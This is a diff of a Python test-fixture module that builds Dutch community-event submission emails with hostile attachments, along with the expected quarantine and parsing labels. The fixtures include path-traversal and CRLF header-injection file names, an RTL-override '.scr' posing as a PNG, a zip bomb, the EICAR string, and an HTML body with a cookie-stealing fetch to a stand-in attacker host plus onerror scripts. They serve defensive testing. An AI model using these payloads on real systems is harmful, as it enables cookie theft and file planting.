@@ -1,158 +1,115 @@
 # ruff: noqa: E501 -- mails have the lines that their programs write
-"""Submissions with files and in odd charsets."""
 # a label is a line:
 # fmt: off
+"""Submissions that came in odd shapes: a subject alone, TNEF, hostile names, torn, infected, scripted."""
 
-from .labels import Mail, act, att
-from .mime import base64_lines, file_part, message, multi, text
-from .papers import (
-    DOCX,
-    docx,
-    gif_pixel,
-    html_form,
-    pdf,
-    photo,
-    png,
-    program,
-    svg_script,
-    winmail,
-    zipped_names,
+import base64
+
+from tests.opened.labels import Mail, act, att
+from tests.opened.mime import base64_lines, file_part, multi, quoted_printable, text
+from tests.opened.programs import bare, headers, outlook, outlook_web, thunderbird
+
+from .papers import DOCX, docx, eicar, pdf, photo, png, program, winmail, zip_bomb
+
+PDF, TNEF = "application/pdf", "application/ms-tnef"
+PROGRAM_TYPES = ["application/octet-stream", "application/vnd.microsoft.portable-executable", "application/x-msdownload", "application/x-msdos-program"]
+
+CHAIRS = """Beste actieweekredactie,
+
+Van dinsdag 1 tot en met donderdag 3 juni 2027 staat in de hal van wijkcentrum De Glazenap te Tegelen (Kerkhoflaan 1) de tentoonstelling Blijf even zitten: dertig schoolstoelen, beschilderd door thuiszittende kinderen. Iedereen mag binnenlopen, toegang gratis. Het persbericht zit erbij.
+
+Kunstcollectief De Pottenbakker
+pottenbakker@kunstintegelen.example.nl
+"""
+PRESS = docx("PERSBERICHT", "Blijf even zitten", "Een tentoonstelling over thuiszitten", "Tegelen, mei 2027")
+WINMAIL = winmail("Tentoonstelling Tegelen", "Persbericht.docx", PRESS)
+
+FIELD = """Beste redactie,
+
+Onze bijdrage: Op de fiets naar morgen, een toertocht van jongeren met hun mentor of jeugdhulpverlener. Vrijdag 4 juni 2027, start 9.45 uur, rond 12.30 uur terug. Verzamelen bij Eetcafe De Wielewaal, Pannenstraat 11 te Groesbeek. Aanmelden via fiets@wielerclubdeheuvel.example.nl
+
+De stukken heb ik maar allemaal bijgesloten.
+
+Wielerclub De Heuvel
+www.wielerclubdeheuvel.example.nl
+"""
+ROUTE, POSTER, RULES = pdf("Op de fiets naar morgen", "Route 24 km", "Pauze bij de molen"), png("fietsposter", (180, 240)), b"Helm op, bel mee, niemand rijdt alleen.\r\n"
+PAGE = b"<html><script>location='https://kwaad.example.com/'</script></html>\n"
+
+TORN = """Geachte redactie,
+
+Op maandag 3 juni 2019 – de openingsdag dus – houden wij van 16.00 tot 17.45 uur “Café de Tweede Kans”, een gesprek voor ouders en zorgcoördinatoren over opnieuw beginnen. We zijn te gast bij Brasserie ’t Meerzicht, Kornputsingel 28 in Steenwijk. Entree € 3, koffie inbegrepen.
+
+Zie ook: www.tweedekanssteenwijk.example.nl
+
+Groeten van Stichting Tweede Kans, André & Zoë
+"""
+CROWD = photo("meerzicht", exif=False)
+LINES = base64_lines(CROWD).decode().split("\n")
+KEPT = LINES[: len(LINES) * 3 // 5]
+HALF = base64.b64decode("".join(KEPT))
+TORN_TOP = [line.replace("Tweede Kans Steenwijk", "Café Tweede Kans") for line in headers("Tweede Kans Steenwijk <info@tweedekanssteenwijk.example.nl>", "Actieweek", "2019-05-15 22:22", "tweedekans")]
+torn = (
+    "".join(line + "\n" for line in TORN_TOP).encode("cp1252")
+    + b'Content-Type: multipart/mixed; boundary="----_=_torn_2019"\n\n------_=_torn_2019\nContent-Type: text/plain; charset="us-ascii"\nContent-Transfer-Encoding: 8bit\n\n' + TORN.encode("cp1252")
+    + '\n------_=_torn_2019\nContent-Type: image/jpeg; name="café.jpg"\nContent-Disposition: attachment; filename="café.jpg"\nContent-Transfer-Encoding: base64\n\n'.encode("cp1252") + "\n".join(KEPT).encode()
 )
-from .programs import apple, bare, gmail, headers, outlook, roundcube
 
-PDF, EXE = "application/pdf", "application/x-dosexec"
-ANY_PROGRAM = {"also": {"type": [PDF, "application/octet-stream", "application/vnd.microsoft.portable-executable", "application/x-msdownload", "application/x-msdos-program"]}}
+INFECTED = """Goedendag,
 
-FLYER = pdf("Klimmen en klauteren", "dinsdag 1 juni, 14.00 - 16.00 uur")
-CLIMB = """Hoi,
+Aanmelding actieweek:
 
-Meld ons maar aan: 'Klimmen en klauteren', dinsdag 1 juni 14:00-16:00, klimhal De Overhang, Energieweg 7 te Nijmegen, voor jongeren en hun begeleiders. Flyer bijgevoegd.
+WIE: OBS De Wulpenhof
+WAT: Nachtlampje aan, verteluurtje voor kleuters die nog niet naar school durven, en voor hun ouders
+WANNEER: donderdag 03-06-2027, 18:30-19:15
+WAAR: OBS De Wulpenhof, Kerkplein 22, 3891 ED Zeewolde
+INFO EN AANMELDEN: https://dewulpenhof.example.nl/nachtlampje
 
-Sportpunt Waalstad
-sportpunt@waalstad.example.nl
+Flyer, muziek, decor en draaiboek in de bijlage.
+
+Groet, juf Annemiek
+"""
+NIGHT, DECOR = pdf("Nachtlampje aan", "donderdag 3 juni, 18.30 - 19.15 uur"), zip_bomb("decor.bmp")
+
+SCRIPTED = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Aankondiging</title><base href="https://kwaad.example.com/">
+<style>.weg{display:none} @import url(https://volgen.example.com/s.css);</style><script>fetch('https://kwaad.example.com/?'+document.cookie)</script></head>
+<body onload="alert('x')"><div class="weg">Sjabloon: woensdag 2 juni 2027, 20.00 uur, Zaal Voorbeeld, Groningen</div>
+<span style="font-size:0;color:#fff;max-height:0">Nieuws uit Beilen en omstreken. Reageer v&oacute;&oacute;r 30 april.</span>
+<!-- <p>Datum: 4 juni 2027 08:00</p> -->
+<h2 style="color:#0b7a75">Hunebed &amp; huiswerk</h2>
+<p>Een buitenles voor leerlingen die de klas even niet trekken, samen met hun docent.</p>
+<dl><dt><b>Dag</b></dt><dd>dinsdag&nbsp;1&nbsp;juni&nbsp;2027</dd><dt><b>Tijd</b></dt><dd>11.00&thinsp;&#8211;&thinsp;13.15&nbsp;uur</dd><dt><b>Plek</b></dt><dd>Bezoekerscentrum De Zwerfkei<br>Asserstraat&nbsp;30<br>9411&nbsp;LP&nbsp;Beilen</dd></dl>
+<p><a href="https://buitenlesdrenthe.example.org/hunebed?utm_source=mail&amp;utm_campaign=aw27&amp;groep=vo" onclick="steel()">Doe mee</a> <a href="javascript:void(0)">klik</a></p>
+<iframe src="https://kwaad.example.com/i"></iframe><form action="https://kwaad.example.com/f"><input type="hidden" name="a" value="b"><input name="pin"></form><img src=x onerror="alert(1)">
+<p>Buitenles Drenthe &bull; <a href="https://www.buitenlesdrenthe.example.org">onze site</a> &bull; <a href="mailto:post@buitenlesdrenthe.example.org?subject=Vraag%20over%202%20juni">post@buitenlesdrenthe.example.org</a></p>
+<img src="https://volgen.example.com/p.gif?m=actieweek%40example.org&amp;d=2027-06-03" width="1" height="1"></body></html>
 """
 
-WORD = docx("Programma Dag van de aanwezigheid", "Datum: donderdag 3 juni 2027", "Tijd: 13.15 tot 17.00 uur", "Locatie: De Reehorst, Bennekomseweg 24, 6717 LM Ede", "Doelgroep: schooldirecteuren en bestuurders", "Aanmelden: https://aanwezig.example.nl/dag")
-WORD_TEXT = "Beste redactie,\n\nIn de bijlage vindt u ons programma voor de actieweek. Graag opnemen in de agenda.\n\nMet vriendelijke groet,\nVereniging Aanwezig!\n"
-PAPER = pdf("Uitnodiging", "", "Wandelcoaching voor gezinnen", "Vrijdag 4 juni 2027, 10.00 - 11.30 uur", "Vertrek: Landgoed Beeckestijn, Rijksweg 136, Velsen-Zuid", "Voor: ouders en hun kind", "Opgeven: lopen@coachcollectief.example.nl")
-PAPER_TEXT = "Zie bijlage!\n\nGr. Coachcollectief Kennemerland\n"
-
-LOGO = png("logo")
-MESSY = """Beste redactie,
-
-De woordvoerders van morgen: debatmiddag voor leerlingen, dinsdag 1 juni van 12.30 tot 15.00 uur in het provinciehuis in Maastricht (Limburglaan 10). Nog een paar bestanden erbij; ik weet niet of ze allemaal goed zijn.
-
-Debatbureau Zuid
-www.debatbureauzuid.example.nl
-"""
-BUNDLE = zipped_names({"foto.txt": b"geen foto\n", "setup.exe": program()})
-CLEAN_ZIP = zipped_names({"poster.txt": b"De tekst van de poster.\n"})
-
-TNEF_PDF = pdf("Praattafel", "woensdag 2 juni 2027")
-TNEF = winmail("Praattafel", "Praattafel.pdf", TNEF_PDF)
-TABLE_TALK = """Goedemorgen,
-
-Woensdag 2 juni 2027 van 9.15 tot 10.45 uur: Praattafel voor ouders in De Koffiemolen, Grotestraat 120 in Almelo.
-
-Centrum voor Jeugd en Gezin Almelo
-cjg@almelovoorbeeld.example.nl
-"""
-
-UTF8 = """Beste redactie,
-
-Café ‘De Ontknoping’ – een avond over patiëntvriendelijke zorg voor thuiszitters. Maandag 31 mei, 19.45 uur, Theatercafé Bellevue, Leidsekade 90, Amsterdam. Voor huisartsen, jeugdartsen en hulpverleners. Reünie na afloop…
-
-Coöperatie Één Lijn
-"""
-SOFT = """Beste redactie,
-
-Op donderdag 3 juni 2027, van 13.00 tot 14.45 uur, houdt onze stichting in het wijkgebouw De Samenloop (Burgemeester van Tienhovenstraat 27, 5171 AB Kaatsheuvel) een oefenmiddag onder de naam Terugbelbingo. Deelnemers: intern begeleiders.
-
-Stichting Lesplaats
-"""
-UNICODE = """Hallo,
-
-Woensdag 2 juni 2027, 20:00-21:30 uur: online lezing 'Uit de stilte' voor ouders. Aanmelden: https://stilte.example.org/aanmelden
-
-Stichting Uit de Stilte
-"""
-LATIN = """Beste mensen,
-
-Cliëntenraad Jeugd Zeist nodigt leraren uit voor een discussiediner: ‘Één tafel’. Vrijdag 4 juni 2027, 17.30–20.00 uur, Slot Zeist, Zinzendorflaan 1. Kosten: € 7,50 p.p.
-Aanmelden per e-mail: clientenraad@jeugdzeist.example.nl
-
-Cliëntenraad Jeugd Zeist
-"""
-NO_HTML = "Deze e-mail bevat HTML. Uw programma ondersteunt geen HTML-berichten.\n"
-BRIGHT = """<!DOCTYPE html><html><head><style>.h{color:red}</style><title>Nieuwsflits</title></head><body>
-<div style="display:none">Voorvertoning: 5 juni 2026</div>
-<p>Dag redactie,</p>
-<p>Wat: <b>Schaken met de wethouder</b><br>Wanneer: <b>woensdag 2&nbsp;juni 2027</b>, van <b>15</b> tot <b>17 uur</b><br>
-Waar: <b>Buurthuis De Toren</b>, Torenlaan&nbsp;15, 1402&nbsp;AT Bussum</p>
-<p>Iedereen mag aanschuiven. <a href="https://detoren.example.nl/schaken">Aanmelden</a></p>
-<p>Welzijn Gooi &#8211; <a href="https://www.welzijngooi.example.nl">welzijngooi.example.nl</a></p>
-<img src="cid:logo@toren"><img src="https://stat.example.com/p.gif?d=2027-06-05" width="1" height="1"></body></html>
-"""
-PIXEL = gif_pixel()
-DISCLAIMER = """Beste redactie,
-
-Wij willen de volgende activiteit onder uw aandacht brengen: "De kracht van klein", een kennisuur voor gemeenteambtenaren en orthopedagogen, op maandag 31 mei 2027 van 11.00 tot 12.00 uur. Het kennisuur is uitsluitend digitaal te volgen; na inschrijving via https://kennisuur.example.nl/klein ontvangt u de deelnamelink.
-
-Met vriendelijke groet,
-
-Lucas Hengst
-Senior adviseur
-
-Adviesgroep Kleinschalig
-Keizersgracht 1000, 1017 AA Amsterdam
-Postbus 531, 1000 AM Amsterdam
-M 06 - 31 05 20 27
-E l.hengst@adviesgroepkleinschalig.example.nl
-W adviesgroepkleinschalig.example.nl
-Kantoordagen: maandag tot en met donderdag 9.00 - 17.00 uur
-
-Kom ook naar ons jubileumcongres op 24 september 2027 in Rotterdam! Lees meer: https://jubileum.example.com
-
-DISCLAIMER: De inhoud van dit bericht is alleen bestemd voor de geadresseerde. Aan dit bericht kunnen geen rechten worden ontleend. Onze algemene voorwaarden van 1 juni 2019 zijn van toepassing.
-"""
-PHOTO = photo("hut", gps=False)
+SUBJECT = "Actieweek! Inloopavond ‘Kopje thee?’ - do 3 juni 19.30-21u - dorpshuis De Notaris, Dorpsstraat 33, Harmelen"
 
 MAILS = [
-    Mail("flyer-is-een-programma", gmail("Sportpunt Waalstad <sportpunt@waalstad.example.nl>", "klimmen", "2027-05-06 12:00", CLIMB, file_part("flyer.pdf", PDF, FLYER), file_part("poster.pdf", PDF, program())), "submission",
-         activities=(act("Klimmen en klauteren", "2027-06-01 14:00-16:00", "klimhal De Overhang | Energieweg 7, Nijmegen | Nijmegen", "jongeren professionals", "Sportpunt Waalstad", mail="sportpunt@waalstad.example.nl", ignore="audience"),),
-         attachments=(att("flyer.pdf", PDF, FLYER), att("poster.pdf", EXE, program(), "quarantine", **ANY_PROGRAM)), tests="a program that calls itself a PDF, beside a real flyer"),
-    Mail("alles-in-word", outlook("Vereniging Aanwezig! <bestuur@aanwezig.example.nl>", "Programma actieweek", "2027-04-15 10:00", WORD_TEXT, file_part("Programma.docx", DOCX, WORD)), "submission",
-         activities=(act("Dag van de aanwezigheid", "2027-06-03 13:15-17:00", "De Reehorst | Bennekomseweg 24, 6717 LM Ede | Ede", "onderwijs bestuurders", "Vereniging Aanwezig!", reg="https://aanwezig.example.nl/dag", or_title=["Programma Dag van de aanwezigheid"]),),
-         attachments=(att("Programma.docx", DOCX, WORD),), tests="the facts are in the document alone"),
-    Mail("alles-in-pdf", bare("Coachcollectief Kennemerland <info@coachcollectief.example.nl>", "Uitnodiging 4 juni", "2027-05-19 18:00", "", part=multi("mixed", text(PAPER_TEXT), file_part("uitnodiging.pdf", "application/octet-stream", PAPER), boundary="=_coach")), "submission",
-         activities=(act("Wandelcoaching voor gezinnen", "2027-06-04 10:00-11:30", "Landgoed Beeckestijn | Rijksweg 136, Velsen-Zuid | Velsen", "ouders jongeren", "Coachcollectief Kennemerland", mail="lopen@coachcollectief.example.nl", or_title=["Wandelcoaching"]),),
-         attachments=(att("uitnodiging.pdf", PDF, PAPER),), tests="the facts are in a compressed PDF declared octet-stream; Velsen-Zuid"),
-    Mail("bonte-verzameling", apple("Debatbureau Zuid <info@debatbureauzuid.example.nl>", "debatmiddag + bestanden", "2027-05-13 14:14", MESSY, file_part("poster.svg", "image/svg+xml", svg_script()), file_part("uitnodiging.pdf.scr", "application/octet-stream", program()), file_part("bestanden.zip", "application/zip", BUNDLE), file_part("tekst.zip", "application/zip", CLEAN_ZIP), file_part("formulier.htm", "text/html", html_form()), file_part("hutten.jpg", "image/jpeg", PHOTO)), "submission",
-         activities=(act("De woordvoerders van morgen", "2027-06-01 12:30-15:00", "provinciehuis | Limburglaan 10, Maastricht | Maastricht", "jongeren", "Debatbureau Zuid", web="https://www.debatbureauzuid.example.nl", or_title=["debatmiddag", "De woordvoerders van morgen: debatmiddag", "De woordvoerders van morgen: debatmiddag voor leerlingen", "debatmiddag voor leerlingen"], or_venue=["provinciehuis in Maastricht"]),),
-         attachments=(att("poster.svg", "image/svg+xml", svg_script(), "quarantine"), att("uitnodiging.pdf.scr", EXE, program(), "quarantine", **ANY_PROGRAM), att("bestanden.zip", "application/zip", BUNDLE, "quarantine"), att("tekst.zip", "application/zip", CLEAN_ZIP), att("formulier.htm", "text/html", html_form(), "quarantine"), att("hutten.jpg", "image/jpeg", PHOTO, "strip-metadata")),
-         tests="SVG with a script, double extension, zip with and without a program, HTML form, photo with a serial number"),
-    Mail("winmail-praattafel", outlook("CJG Almelo <cjg@almelovoorbeeld.example.nl>", "Praattafel", "2027-05-04 09:00", TABLE_TALK, file_part("winmail.dat", "application/ms-tnef", TNEF)), "submission",
-         activities=(act("Praattafel", "2027-06-02 09:15-10:45", "De Koffiemolen | Grotestraat 120, Almelo | Almelo", "ouders", "Centrum voor Jeugd en Gezin Almelo", mail="cjg@almelovoorbeeld.example.nl", or_organiser=["Centrum voor Jeugd en Gezin", "CJG Almelo"], or_title=["Praattafel voor ouders"]),),
-         attachments=(att("winmail.dat", "application/ms-tnef", TNEF), att("Praattafel.pdf", PDF, TNEF_PDF, optional=True, inside="winmail.dat")), tests="TNEF with a PDF"),
-    Mail("utf8-niet-gezegd", message(headers("=?UTF-8?Q?Co=C3=B6peratie_=C3=89=C3=A9n_Lijn?= <info@eenlijn.example.nl>", "cafe", "2027-05-02 20:20", "onverklaard")[:-1], b"\n" + UTF8.encode()), "submission",
-         activities=(act("Café ‘De Ontknoping’", "2027-05-31 19:45", "Theatercafé Bellevue | Leidsekade 90, Amsterdam | Amsterdam", "jgz jeugdhulp professionals", "Coöperatie Één Lijn", ignore="audience", or_title=["De Ontknoping"]),),
-         tests="no MIME headers at all; the bytes are UTF-8; no end, 'reünie na afloop'", note="General practitioners are in no class of the vocabulary."),
-    Mail("zachte-regeleinden", message(headers("Stichting Lesplaats <post@lesplaats.example.nl>", "Terugbelbingo", "2027-04-29 13:45", "zacht"), b"Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: quoted-printable\n\n" + b"\n".join(b"=\n".join(line[at : at + 23] for at in range(0, len(line), 23)) for line in SOFT.encode().split(b"\n"))), "submission",
-         activities=(act("Terugbelbingo", "2027-06-03 13:00-14:45", "wijkgebouw De Samenloop | Burgemeester van Tienhovenstraat 27, 5171 AB Kaatsheuvel | Loon op Zand", "onderwijs", "Stichting Lesplaats"),),
-         tests="soft line breaks in the middle of words, dates and times; Kaatsheuvel lies in Loon op Zand"),
-    Mail("utf16", message(headers("Stichting Uit de Stilte <info@stilte.example.org>", "lezing", "2027-05-05 05:05", "utf16"), b"Content-Type: text/plain; charset=utf-16\nContent-Transfer-Encoding: base64\n\n" + base64_lines(b"\xff\xfe" + UNICODE.encode("utf-16-le"))), "submission",
-         activities=(act("Uit de stilte", "2027-06-02 20:00-21:30", "online", "ouders", "Stichting Uit de Stilte", reg="https://stilte.example.org/aanmelden", or_title=["online lezing Uit de stilte", "lezing Uit de stilte"]),),
-         tests="UTF-16"),
-    Mail("windows-als-latijn", bare("Cliëntenraad Jeugd Zeist <clientenraad@jeugdzeist.example.nl>", "Één tafel – diner", "2027-05-03 16:16", "", part=text(LATIN, charset="windows-1252", declared="iso-8859-1", encoding="8bit"), charset="windows-1252"), "submission",
-         activities=(act("Één tafel", "2027-06-04 17:30-20:00", "Slot Zeist | Zinzendorflaan 1, Zeist | Zeist", "onderwijs", "Cliëntenraad Jeugd Zeist", mail="clientenraad@jeugdzeist.example.nl", or_title=["discussiediner: Één tafel", "Één tafel – diner", "discussiediner"]),),
-         tests="windows-1252 that calls itself iso-8859-1, eight bits, encoded words in windows-1252; an amount that reads as a time"),
-    Mail("geen-html-ondersteuning", bare("Welzijn Gooi <contact@welzijngooi.example.nl>", "Schaken met de wethouder", "2027-05-12 17:05", "", part=multi("related", multi("alternative", text(NO_HTML, encoding="7bit"), text(BRIGHT, "html", "iso-8859-15"), boundary="alt-toren"), file_part("logo.gif", "image/gif", PIXEL, disposition="inline", extra="Content-ID: <logo@toren>\n"), boundary="rel-toren")), "submission",
-         activities=(act("Schaken met de wethouder", "2027-06-02 15:00-17:00", "Buurthuis De Toren | Torenlaan 15, 1402 AT Bussum | Gooise Meren", "iedereen", "Welzijn Gooi", web="https://www.welzijngooi.example.nl", reg="https://detoren.example.nl/schaken"),),
-         attachments=(att("logo.gif", "image/gif", PIXEL, inline=True, optional=True),), tests="plain part says nothing; hidden preview with another date; 'van 15 tot 17 uur' over bold words; a wethouder in the title; Bussum lies in Gooise Meren"),
-    Mail("kennisuur-met-voettekst", outlook("Lucas Hengst <l.hengst@adviesgroepkleinschalig.example.nl>", "Aanmelding kennisuur", "2027-05-06 11:30", DISCLAIMER, file_part("image001.png", "image/png", LOGO, disposition="inline", extra="Content-ID: <image001.png@01DB.VOORBEELD>\n")), "submission",
-         activities=(act("De kracht van klein", "2027-05-31 11:00-12:00", "online", "gemeenten", "Adviesgroep Kleinschalig", web="https://adviesgroepkleinschalig.example.nl", reg="https://kennisuur.example.nl/klein", mail="l.hengst@adviesgroepkleinschalig.example.nl", or_audience=["onderwijs", "jeugdhulp", "professionals"], or_title=["kennisuur De kracht van klein"]),),
-         attachments=(att("image001.png", "image/png", LOGO, inline=True, optional=True),), tests="online; the signature has an address, a congress, office days; a disclaimer with a date of the week in another year"),
-    Mail("naam-in-stukken", roundcube("Speelotheek De Knikker <knikker@example.nl>", "speelochtend", "2027-05-15 10:15", "Hoi,\n\nwoensdag 2 juni van 9 tot half 12 speelochtend voor kinderen bij Speelotheek De Knikker, Nieuwstraat 3, Tiel. Poster zit erbij.\n\nGroetjes van de vrijwilligers\n", file_part("Poster speelochtend twee juni definitief.png", "image/png", LOGO, style="continued"), file_part("Régels & tips.pdf", "application/octet-stream", FLYER, style="words")), "submission",
-         activities=(act("speelochtend", "2027-06-02 09:00-11:30", "Speelotheek De Knikker | Nieuwstraat 3, Tiel | Tiel", "jongeren", "Speelotheek De Knikker", or_title=["speelochtend voor kinderen"]),),
-         attachments=(att("Poster speelochtend twee juni definitief.png", "image/png", LOGO), att("Régels & tips.pdf", PDF, FLYER)), tests="file names in continuations and in encoded words; 'van 9 tot half 12'"),
+    Mail("kopje-thee", outlook_web("Sociaal Team Woerden-Oost <sociaalteam@woerdenvoorbeeld.example.nl>", SUBJECT, "2027-05-20 18:18", "\nOutlook voor Android downloaden\n"), "submission",
+         activities=(act("Inloopavond ‘Kopje thee?’", "2027-06-03 19:30-21:00", "dorpshuis De Notaris | Dorpsstraat 33, Harmelen | Woerden", by="Sociaal Team Woerden-Oost", or_title=["Kopje thee?"], or_venue=["De Notaris"]),),
+         tests="all facts in the subject, whose question mark is in the title; a body with nothing but the program's own line; organiser only in the display name; Harmelen lies in Woerden"),
+    Mail("stoelen-in-winmail", bare("De Pottenbakker <pottenbakker@kunstintegelen.example.nl>", "Tentoonstelling Tegelen", "2027-05-17 14:37", "", "X-MS-TNEF-Correlator: <0099AABB@kunstintegelen.example.nl>", "X-Mailer: Microsoft Outlook 16.0",
+            part=multi("mixed", text(CHAIRS, charset="windows-1252"), file_part("winmail.dat", TNEF, WINMAIL), boundary="----=_NextPart_000_00A1_01DBC7")), "submission",
+         activities=(act("Blijf even zitten", "2027-06-01..2027-06-03 hele dag", "wijkcentrum De Glazenap | Kerkhoflaan 1, Tegelen | Venlo", "iedereen", "Kunstcollectief De Pottenbakker", mail="pottenbakker@kunstintegelen.example.nl", or_title=["tentoonstelling Blijf even zitten"], or_venue=["hal van wijkcentrum De Glazenap", "hal van wijkcentrum De Glazenap te Tegelen"], or_organiser=["De Pottenbakker"]),),
+         attachments=(att("winmail.dat", TNEF, WINMAIL), att("Persbericht.docx", DOCX, PRESS, optional=True, inside="winmail.dat")),
+         tests="three days without hours, 'van dinsdag 1 tot en met donderdag 3 juni'; TNEF with a document in it; Tegelen lies in Venlo"),
+    Mail("namen-met-streken", thunderbird("Wielerclub De Heuvel <fiets@wielerclubdeheuvel.example.nl>", "toertocht + stukken", "2027-05-06 21:12", FIELD,
+            file_part("/etc/cron.d/../route 24 km.pdf", PDF, ROUTE, style="rfc2231"), file_part("..\\\\..\\\\Startup\\\\spelregels.txt", "text/plain", RULES), file_part("poster\u2067gnp.scr", PDF, program(), style="rfc2231"), file_part("tocht\r\nBcc: iedereen@example.com\t.html", "text/html", PAGE, style="rfc2231"), file_part("Poster “Op de fiets” – groot.png", "image/png", POSTER, style="words")), "submission",
+         activities=(act("Op de fiets naar morgen", "2027-06-04 09:45-12:30", "Eetcafe De Wielewaal | Pannenstraat 11, Groesbeek | Berg en Dal", "jongeren onderwijs jeugdhulp", "Wielerclub De Heuvel", web="https://www.wielerclubdeheuvel.example.nl", mail="fiets@wielerclubdeheuvel.example.nl", ignore="end", or_title=["toertocht Op de fiets naar morgen"]),),
+         attachments=(att("route 24 km.pdf", PDF, ROUTE), att("spelregels.txt", "text/plain", RULES), att("postergnp.scr", "application/x-dosexec", program(), "quarantine", also={"type": [PDF, *PROGRAM_TYPES]}), att("tochtBcc: iedereen@example.com.html", "text/html", PAGE, "quarantine", also={"name": ["*.html"]}), att("Poster “Op de fiets” – groot.png", "image/png", POSTER)),
+         tests="paths with both kinds of slash, an isolating direction character, line end and tab in a name, an encoded word as a name; a page with script; registration by mail is no page; Groesbeek lies in Berg en Dal", note="'Rond 12.30 uur' may be an end or none: not scored."),
+    Mail("afgescheurde-foto", torn, "submission", 2019,
+         activities=(act("Café de Tweede Kans", "2019-06-03 16:00-17:45", "Brasserie ’t Meerzicht | Kornputsingel 28, Steenwijk | Steenwijkerland", "ouders onderwijs", "Stichting Tweede Kans", web="https://www.tweedekanssteenwijk.example.nl", or_organiser=["Tweede Kans"]),),
+         attachments=(att("café.jpg", "image/jpeg", HALF, also={"action": ["quarantine", "strip-metadata"]}),),
+         tests="says us-ascii and is windows-1252, also raw in From and in the file's name; broken off inside a photo, no closing boundary; a price; Steenwijk lies in Steenwijkerland"),
+    Mail("nachtlampje-met-virus", outlook("OBS De Wulpenhof <info@dewulpenhof.example.nl>", "Aanmelding actieweek", "2027-05-21 15:44", INFECTED, file_part("Flyer nachtlampje.pdf", PDF, NIGHT), file_part("Slaapliedje.mp3", "audio/mpeg", program()), file_part("Decor.zip", "application/zip", DECOR), file_part("Draaiboek.txt", "text/plain", eicar())), "submission",
+         activities=(act("Nachtlampje aan", "2027-06-03 18:30-19:15", "OBS De Wulpenhof | Kerkplein 22, 3891 ED Zeewolde | Zeewolde", "jongeren ouders", "OBS De Wulpenhof", web="https://dewulpenhof.example.nl/nachtlampje", reg="https://dewulpenhof.example.nl/nachtlampje", or_title=["Nachtlampje aan, verteluurtje voor kleuters", "verteluurtje Nachtlampje aan", "Nachtlampje aan, verteluurtje voor kleuters die nog niet naar school durven", "Nachtlampje aan, verteluurtje voor kleuters die nog niet naar school durven, en voor hun ouders"]),),
+         attachments=(att("Flyer nachtlampje.pdf", PDF, NIGHT), att("Slaapliedje.mp3", "application/x-dosexec", program(), "quarantine", also={"type": ["audio/mpeg", *PROGRAM_TYPES]}), att("Decor.zip", "application/zip", DECOR, "quarantine"), att("Draaiboek.txt", "text/plain", eicar(), "quarantine", also={"type": ["application/octet-stream", "application/x-dosexec"]})),
+         tests="an honest submission with a program that calls itself music, a zip that unpacks to a thousand times its size and the EICAR string; the flyer stays; info and registration on one page; Zeewolde"),
+    Mail("hunebed-met-script", bare("Buitenles Drenthe <post@buitenlesdrenthe.example.org>", "Hunebed & huiswerk =?utf-8?B?8J+qqA==?=", "2027-05-13 10:00", "", "X-Mailer: PostDuif 3", part=b"Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n" + quoted_printable(SCRIPTED.encode())), "submission",
+         activities=(act("Hunebed & huiswerk", "2027-06-01 11:00-13:15", "Bezoekerscentrum De Zwerfkei | Asserstraat 30, 9411 LP Beilen | Midden-Drenthe", "jongeren onderwijs", "Buitenles Drenthe", web="https://www.buitenlesdrenthe.example.org", reg="https://buitenlesdrenthe.example.org/hunebed?groep=vo", mail="post@buitenlesdrenthe.example.org", or_title=["buitenles Hunebed & huiswerk"]),),
+         tests="script, handlers, base, iframe, form, javascript: link; hidden text, a comment and a pixel with other days and towns; thin blanks; of the query only utm goes; Beilen lies in Midden-Drenthe"),
 ]
